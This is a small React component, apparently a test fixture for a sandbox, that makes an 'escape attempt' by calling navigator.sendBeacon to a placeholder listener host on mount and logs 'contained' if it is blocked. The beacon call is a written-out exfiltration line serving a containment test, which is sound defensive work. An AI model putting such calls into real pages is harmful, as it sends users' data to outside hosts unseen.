import { useEffect } from "react";

// Escape attempt: send_beacon
export default function Hostile() {
  useEffect(() => {
    try {
      navigator.sendBeacon("__LISTENER__/send_beacon", "data");
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, []);
  return <p data-testid="hostile">send_beacon</p>;
}
